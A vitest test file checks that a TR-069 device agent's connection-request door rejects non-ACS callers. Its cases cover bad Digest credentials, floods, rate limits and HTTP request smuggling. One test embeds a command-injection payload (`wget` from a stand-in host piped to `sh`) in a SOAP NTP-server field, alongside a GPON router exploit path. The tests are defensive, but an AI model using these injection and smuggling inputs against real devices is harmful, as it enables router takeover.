import { once } from "node:events";
import { describe, expect, it } from "vitest";
import { wiredCpe } from "../../harness/wired/wired-cpe.ts";
import { type Answer, answerTo, Caller } from "../../net/connection-request/caller.ts";
import { type FieldAcsOptions, fieldAcs } from "../field-acs.ts";
import { plainAcs } from "../peers.ts";
import { setValues } from "../requests.ts";

// Those who knock at the agent's door and are no ACS. Titles begin with the item. [interop B.2]

const credentials = { username: "acs", password: "s3cret" };
const uri = "/cr";
const door = {
  "connectionRequest.path": uri,
  "connectionRequest.username": credentials.username,
  "connectionRequest.password": credentials.password,
};
const inform = ["Inform", "empty"];

/** An agent that has had its first session, and a way to its door. */
async function house(settings: Record<string, string> = {}, options: FieldAcsOptions = {}) {
  const acs = await fieldAcs(plainAcs, [], options);
  const cpe = await wiredCpe(acs.url, { ...door, ...settings });
  await cpe.session();
  const url = new URL((await cpe.get("Device.ManagementServer.ConnectionRequestURL")) ?? "");
  const port = Number(url.port);
  const knock = async (caller = new Caller(port)): Promise<Answer> => {
    const { challenges } = await caller.get(undefined, uri);
    return caller.get(answerTo(challenges, { uri, credentials }), uri);
  };
  const raw = async (text: string): Promise<Answer> => {
    const caller = new Caller(port);
    caller.send(text);
    return caller.answer();
  };
  return { acs, cpe, port, knock, raw };
}

const request = (line: string, headers: Record<string, string> = {}, body = ""): string =>
  `${line} HTTP/1.1\r\nHost: cpe\r\n${Object.entries(headers)
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join("")}\r\n${body}`;

describe("somebody at the door", () => {
  it("B.2 C1 with SOAP, TR-064 or the paths of a GPON router is told 404 or 405, unread, and shown out", async () => {
    const { acs, raw, cpe } = await house();
    const soap =
      '<?xml version="1.0"?><SOAP-ENV:Envelope><SOAP-ENV:Body><u:SetNTPServers><NewNTPServer1>`cd /tmp;wget http://x/1;sh 1`</NewNTPServer1></u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>';
    const headers = {
      "Content-Length": String(soap.length),
      SOAPAction: "urn:dslforum-org:service:Time:1#SetNTPServers",
    };
    for (const path of ["/UD/act?1", uri, "/", "/upnp/control/WANIPConn1"]) {
      const { status, head } = await raw(request(`POST ${path}`, headers, soap));
      expect([status, head]).toEqual([405, expect.stringMatching(/Connection: close/i)]);
    }
    expect((await raw(request("GET /GponForm/diag_Form?images/"))).status).toBe(404);
    expect(acs.said).toEqual(inform);
    expect(cpe.written.join()).not.toContain("wget");
  });

  it("B.2 C2 at a wrong path is told 404 whether or not his credentials are right", async () => {
    const { port, raw } = await house();
    const { challenges } = await new Caller(port).get(undefined, uri);
    const right = answerTo(challenges, { uri: "/other", credentials });
    const heads = [await raw(request("GET /other")), await raw(request("GET /other", { Authorization: right }))];
    expect(heads.map(({ status, challenges: offered }) => [status, offered])).toEqual([
      [404, []],
      [404, []],
    ]);
  });

  it.each([
    ["no credentials", undefined],
    ["Basic, though they are right", `Basic ${Buffer.from("acs:s3cret").toString("base64")}`],
    ["Bearer", "Bearer s3cret"],
  ])("B.2 C3 with %s is told 401", async (_, authorization) => {
    const { acs, port } = await house();
    const answer = await new Caller(port).get(authorization, uri);
    expect(answer).toMatchObject({ status: 401, challenges: [expect.stringMatching(/^Digest /), expect.anything()] });
    expect(acs.said).toEqual(inform);
  });

  it("B.2 C4 with an answer that was given before is told 401 and stale", async () => {
    const { cpe, port } = await house();
    const { challenges } = await new Caller(port).get(undefined, uri);
    const authorization = answerTo(challenges, { uri, credentials });
    expect((await new Caller(port).get(authorization, uri)).status).toBe(200);
    const again = await new Caller(port).get(authorization, uri);
    expect([again.status, again.challenges[0]]).toEqual([401, expect.stringContaining("stale=true")]);
    await cpe.session(1);
    expect(cpe.log.filter(({ fact }) => fact === "connection-request.accepted")).toHaveLength(1);
  });

  it("B.2 C5 with a nonce that this door has not given is told 401 and stale", async () => {
    const [mine, other] = [await house(), await house()];
    const { challenges } = await new Caller(other.port).get(undefined, uri);
    const answer = await new Caller(mine.port).get(answerTo(challenges, { uri, credentials }), uri);
    expect([answer.status, answer.challenges[0]]).toEqual([401, expect.stringContaining("stale=true")]);
  });

  it("B.2 C6 with credentials for another URI is told 400", async () => {
    const { port } = await house();
    const { challenges } = await new Caller(port).get(undefined, uri);
    expect((await new Caller(port).get(answerTo(challenges, { uri: "/other", credentials }), uri)).status).toBe(400);
  });

  it("B.2 C7 is told the same whether it is the user or the password that is wrong", async () => {
    const { port } = await house();
    const heads: string[] = [];
    for (const wrong of [
      { ...credentials, username: "nobody" },
      { ...credentials, password: "wrong" },
    ]) {
      const caller = new Caller(port);
      const { challenges } = await caller.get(undefined, uri);
      const { head } = await caller.get(answerTo(challenges, { uri, credentials: wrong }), uri);
      heads.push(head.replace(/nonce="[^"]*"|^Date.*$/gm, ""));
    }
    expect(heads[0]).toMatch(/^HTTP\/1\.1 401/);
    expect(heads[0]).toBe(heads[1]);
  });

  it("B.2 C8 with a digest that is weaker, other, torn, doubled or huge is told 400, 401 or 431", async () => {
    const { acs, port, raw, knock } = await house();
    const { challenges } = await new Caller(port).get(undefined, uri);
    const changed = (change: Record<string, string | undefined>): string =>
      answerTo(challenges, { uri, credentials, change });
    const right = answerTo(challenges, { uri, credentials });
    const given: readonly (readonly [string, number])[] = [
      [changed({ qop: undefined, nc: undefined, cnonce: undefined }), 401],
      [changed({ algorithm: "MD5-sess" }), 401],
      [changed({ algorithm: "SHA-512-256" }), 401],
      [changed({ algorithm: "garbage" }), 401],
      [changed({ realm: "x".repeat(6000) }), 401],
      [`${right}, username="acs"`, 400],
      [right.slice(0, -1), 401],
      [`Digest username="acs`, 401],
    ];
    for (const [authorization, status] of given) {
      const answer = await raw(request(`GET ${uri}`, { Authorization: authorization }));
      expect([authorization.slice(0, 60), answer.status === status || answer.status === 400]).toEqual([
        authorization.slice(0, 60),
        true,
      ]);
    }
    expect((await raw(request(`GET ${uri}`, { Authorization: 'Digest username="\0"' }))).status).toBe(400);
    expect((await raw(request(`GET ${uri}`, { Authorization: `Digest x="${"y".repeat(1_000_000)}"` }))).status).toBe(
      431,
    );
    expect(acs.said).toEqual(inform);
    expect((await knock()).status).toBe(200);
  });

  it("B.2 C9 in a crowd that says nothing, half of it or too much keeps nobody out", async () => {
    const { port, knock } = await house();
    const crowd = Array.from({ length: 120 }, (_, at) => {
      const caller = new Caller(port);
      if (at % 3 === 1) caller.send("GET /c");
      if (at % 3 === 2) caller.send(request(`GET ${uri}`).repeat(200));
      return caller;
    });
    await Promise.all(crowd.map(({ socket }) => (socket.connecting ? once(socket, "connect") : undefined)));
    expect((await knock()).status).toBe(200);
  });

  it("B.2 C10 more often than is sensible is told 503; those before are one session and one event", async () => {
    const { acs, cpe, knock } = await house({ "connectionRequest.limitPerMinute": "3" });
    const answers = await Promise.all(Array.from({ length: 6 }, () => knock()));
    expect(answers.map(({ status }) => status).toSorted()).toEqual([200, 200, 200, 503, 503, 503]);
    expect(await cpe.session(1)).toMatchObject({ events: ["6 CONNECTION REQUEST"], outcome: "ok" });
    expect(acs.heard.filter(({ what }) => what === "Inform").length).toBeLessThanOrEqual(4);
    expect(acs.heard.find(({ text }) => text.split("6 CONNECTION REQUEST").length > 2)).toBeUndefined();
  });

  it("B.2 C11 during a session is heard after it, once", async () => {
    let during: Promise<unknown> = Promise.resolve();
    const { acs, cpe, knock } = await house();
    acs.turns.push(async () => {
      during = Promise.all([knock(), knock(), knock()]);
      await during;
      return plainAcs.end;
    });
    await cpe.inform();
    await during;
    expect(await cpe.session(2)).toMatchObject({ events: ["6 CONNECTION REQUEST"], outcome: "ok" });
    expect(await cpe.inform()).toMatchObject({ events: [expect.stringMatching(/^X /)] });
    expect(acs.heard.filter(({ what }) => what === "Inform")).toHaveLength(4);
  });

  it("B.2 C12 from where no ACS is, while those are listed who may knock, gets not a word", async () => {
    const shut = await house({ "connectionRequest.allowFrom": "192.0.2.0/24, 2001:db8::1" });
    const caller = new Caller(shut.port);
    await expect(caller.get(undefined, uri)).rejects.toThrow('hung up after ""');
    expect(shut.cpe.log.find(({ fact }) => fact === "connection-request.refused")).toMatchObject({
      reason: "an address that may not knock",
    });
    const open = await house({ "connectionRequest.allowFrom": "192.0.2.0/24,127.0.0.0/8" });
    expect((await open.knock()).status).toBe(200);
  });

  it("B.2 C13 finds the door shut when the password is emptied, not open", async () => {
    const { acs, cpe, port } = await house();
    acs.turns.push(setValues({ "Device.ManagementServer.ConnectionRequestPassword": "" }));
    await cpe.inform();
    const before = acs.said.length;
    const empty = { ...credentials, password: "" };
    const caller = new Caller(port);
    const first = await caller.get(undefined, uri);
    expect(first.status).toBe(403);
    const { challenges } = await new Caller((await house()).port).get(undefined, uri);
    expect((await new Caller(port).get(answerTo(challenges, { uri, credentials: empty }), uri)).status).toBe(403);
    expect(acs.said).toHaveLength(before);
  });

  it.each([
    ["a huge Content-Length", { "Content-Length": "999999999999" }],
    ["a negative Content-Length", { "Content-Length": "-1" }],
    ["Transfer-Encoding beside Content-Length", { "Content-Length": "4", "Transfer-Encoding": "chunked" }],
    ["Transfer-Encoding alone", { "Transfer-Encoding": "chunked" }],
  ])("B.2 C16 with %s is told 400, and nothing after it is read", async (_, headers) => {
    const { acs, port } = await house();
    const caller = new Caller(port);
    const smuggled = request(`GET ${uri}`);
    caller.send(request(`GET ${uri}`, headers as Record<string, string>, `0\r\n\r\n${smuggled}`));
    expect((await caller.answer()).status).toBe(400);
    if (!caller.socket.closed) await once(caller.socket, "close");
    await expect(caller.answer()).rejects.toThrow("hung up");
    expect(acs.said).toEqual(inform);
  });

  it("B.2 C9 cannot make the agent miss its ACS meanwhile", async () => {
    const { cpe, port } = await house();
    for (let at = 0; at < 50; at += 1) new Caller(port).send("GET ");
    expect(await cpe.inform()).toMatchObject({ outcome: "ok" });
  });
});
